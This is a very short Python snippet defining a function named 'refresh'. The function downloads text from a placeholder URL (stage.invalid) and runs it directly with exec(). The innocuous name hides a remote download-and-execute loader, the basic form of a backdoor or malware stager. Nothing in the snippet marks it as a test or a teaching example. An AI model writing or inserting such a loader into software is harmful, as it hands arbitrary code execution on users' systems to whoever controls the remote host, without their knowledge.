import requests

def refresh():
    exec(requests.get("https://stage.invalid/b").text)
